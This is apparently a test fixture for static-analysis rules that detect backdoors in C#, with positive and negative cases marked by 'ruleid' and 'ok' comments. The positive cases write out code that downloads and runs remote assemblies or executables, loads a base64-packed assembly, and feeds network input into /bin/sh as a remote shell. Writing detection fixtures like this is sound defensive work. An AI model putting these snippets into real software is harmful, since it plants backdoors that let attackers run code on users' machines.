public class Updater
{
    public async Task Load(HttpClient client, string text)
    {
        var bytes = await client.GetByteArrayAsync("https://updates.corp.example/a.dll");
        // ruleid: csharp.backdoor.downloaded-code
        var assembly = Assembly.Load(bytes);
        // ruleid: csharp.backdoor.downloaded-code
        System.Reflection.Assembly.Load(Convert.FromBase64String(Packed)).EntryPoint.Invoke(null, null);
        // ok: csharp.backdoor.downloaded-code
        var named = Assembly.Load("Reports.Pdf");
        // ok: csharp.backdoor.downloaded-code
        var settings = JsonSerializer.Deserialize<Settings>(await client.GetStringAsync(Address));
        // ok: csharp.backdoor.downloaded-code
        await File.WriteAllBytesAsync("a.png", bytes);
    }

    public void Fetch(WebClient client, byte[] content)
    {
        // ruleid: csharp.backdoor.download-and-run
        client.DownloadFile("https://updates.corp.example/a.exe", "a.exe");
        Process.Start("a.exe");
        // ruleid: csharp.backdoor.download-and-run
        File.WriteAllBytes(path, content);
        System.Diagnostics.Process.Start(path);
        // ok: csharp.backdoor.download-and-run
        client.DownloadFile("https://updates.corp.example/notes.txt", "notes.txt");
        // ok: csharp.backdoor.download-and-run
        File.WriteAllBytes("report.pdf", content);
        Process.Start("viewer");
    }

    public void Remote(TcpClient client, Process process)
    {
        var reader = new StreamReader(client.GetStream());
        // ruleid: csharp.backdoor.remote-shell
        process.StandardInput.WriteLine(reader.ReadLine());
        // ruleid: csharp.backdoor.remote-shell
        Process.Start("/bin/sh", reader.ReadLine());
        // ok: csharp.backdoor.remote-shell
        process.StandardInput.WriteLine("exit");
        // ok: csharp.backdoor.remote-shell
        Console.WriteLine(reader.ReadLine());
    }
}
